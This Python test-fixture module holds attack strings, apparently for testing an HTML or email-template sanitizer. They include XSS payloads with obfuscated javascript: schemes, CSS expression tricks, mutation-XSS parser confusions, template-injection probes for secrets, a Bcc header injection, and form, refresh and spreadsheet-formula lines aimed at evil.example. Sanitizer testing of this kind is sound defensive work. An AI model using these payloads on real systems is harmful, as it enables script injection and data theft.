"""Attack strings, our own, by family. Each is tried as a value and as a whole template."""

from __future__ import annotations

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href='https://a.example' onfocus=alert(1) autofocus>x</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<p/onclick=alert(1)>x",
    "<body onload=alert(1)>",
    "<td background=javascript:alert(1)>x",
    "<table background='https://a.example/x.png'><tr><td>x",
]
SCHEMES = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='//a.example'>x</a>",
    "<a href='https:a.example'>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<img src='http://a.example/x.png'>",
    "<img srcset='https://a.example/x.png 2x'>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='tel:javascript:alert(1)'>x</a>",
]
CSS_VALUES = [
    "<p style='background:url(https://a.example/x)'>x</p>",
    "<p style='background-image:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:expr/**/ession(alert(1))'>x</p>",
    "<p style='w\\69dth:1px;color:red'>x</p>",
    "<p style='color:red;-moz-binding:url(x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;top:0;left:0'>x</p>",
    "<p style='display:none'>x</p>",
    "<p style='margin:-999px'>x</p>",
    "<p style='font-family:\"x;}</style><script>alert(1)</script>\"'>x</p>",
    "<p style='color:var(--x)'>x</p>",
    "<p style='width:calc(1px + 1px)'>x</p>",
    "<p style='color:red}b{color:blue'>x</p>",
    "<p style='content:\"x\"'>x</p>",
    "<p style='background:u\\72l(x)'>x</p>",
    "<p style='color:#ff0000;;;color:attr(x)'>x</p>",
    "<style>@import 'https://a.example/x.css';p{behavior:url(x)}</style><p>x</p>",
    "<style>p{background:url(https://a.example)}</style><p>x</p>",
]
MUTATION = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><form><table></form><td>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![if !mso]><p>x</p><![endif]>",
    "<!--[if mso]><p>x</p><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><b>x",
    "<a><a href='https://a.example'>x",
    "<p><table><p>x",
    "</p></p><b><i></b></i>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<tr><td>top-level cell",
    "<b" + "<b" * 50,
    "<div>" * 300 + "x",
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=x></form>",
    "<o:p>x</o:p><v:rect>x</v:rect>",
]
TEMPLATE_SYNTAX = [
    "{{ 7*7 }}",
    "{{ sender.email }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}",
    "{% include 'secret' %}",
    "{% for i in (1..1000000) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{{{ x }}}}",
    "{ { x } }",
    "&#123;&#123; sender.email &#125;&#125;",
    "{%raw%}{{x}}{%endraw%}",
]
ENCODINGS = [
    "\u202egnp.exe",
    "a\x00b\x1b[31m",
    "a\r\nBcc: x@evil.example",
    "\ufeff\u200bx",
    "\ud800",
    "\ue000x\ue001\ue002",
    "\ue0100\ue011",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u2028\u2029x",
    "\U000e0041\ufdd0x",
    "%3Cscript%3E",
    "slot00z",
    '=HYPERLINK("https://evil.example")',
]
ODD_MARKUP = [
    "<![ if !IE]>x<![endif]>",
    "<table><tr><td><p title='x'><!ATTLIST a</p></td></tr></table>",
    "<!DOCTYPE html><!ENTITY x 'y'><p>x",
    "<?xml version='1.0'?><p>x",
    "<?php echo 1 ?>x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</ p>x",
    "</>x",
    "<!>x",
    "<!---->x",
    "<!--->x-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<p =x>x</p>",
    "<p a=>x</p>",
    "<p a'b\"c>x</p>",
    "<p title=a\"b'c>x</p>",
    "<p title='a>b<c'>x</p>",
    "<p/title='x'/>x",
    "<P TITLE=X>x</P>",
    "<p title=x title=y>x</p>",
    "<p style='width:" + "9" * 4_301 + "px'>x</p>",
    "<p style='color:" + "(" * 3_000 + "'>x</p>",
    "<p style='width:1e999px'>x</p>",
    "<p style='}'>x</p>",
    "<font size=99999999999>x</font>",
    "<td colspan=99999999999999>x",
    "<a href='https://[::1'>x</a>",
    "<a href='https://a.example:99999999999/'>x</a>",
    "<a href='https://xn--a.example/'>x</a>",
    "a < b > c & d &; &# &#x &#; &unknown;",
]
_SPELLINGS = (
    "{}",
    " {}",
    "\t{}",
    "{}#",
    "&#1;{}",
    "&Tab;{}",
    "&NewLine;{}",
    "&#x09;{}",
    "%20{}",
    "//{}",
    "\u00a0{}",
)
_ACTIVE = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
)
SPELT_SCHEMES = [
    f"<{tag}='{spelling.format(address)}'>x</a>"
    for tag in ("a href", "img src")
    for spelling in _SPELLINGS
    for address in _ACTIVE
]
HANDLERS_EVERYWHERE = [
    f"<{tag}{gap}{name}={quote}alert(1){quote}>x"
    for tag in ("p", "a", "td", "img", "table", "font", "hr")
    for gap, name, quote in (
        (" ", "onclick", "'"),
        ("/", "onerror", ""),
        ("\n", "ONLOAD", '"'),
        (" x ", "onfocus", "`"),
    )
]
_DECLARATIONS = (
    "background:url(https://evil.example/)",
    "background:URL('javascript:alert(1)')",
    "list-style:url(x)",
    "cursor:url(x),auto",
    "width:expression(alert(1))",
    "width:EXPRESSION (alert(1))",
    "-moz-binding:url(x)",
    "position:absolute",
    "position:/**/fixed",
    "color:env(x)",
    "color:var(--a,url(x))",
    "src:image-set('https://evil.example/' 1x)",
    "color:red;}</style><script>alert(1)</script>",
)
STYLED = [
    text.format(declaration)
    for declaration in _DECLARATIONS
    for text in (
        '<p style="{}">x</p>',
        "<style>p{{{}}}</style><p>x</p>",
        '<td style="color:red;{};top:0">x',
        "<hr style='{}'>",
    )
]
ALL = [
    *ODD_MARKUP,
    *SPELT_SCHEMES,
    *HANDLERS_EVERYWHERE,
    *STYLED,
    *EVENT_HANDLERS,
    *SCHEMES,
    *CSS_VALUES,
    *MUTATION,
    *FOREIGN,
    *TEMPLATE_SYNTAX,
    *ENCODINGS,
]
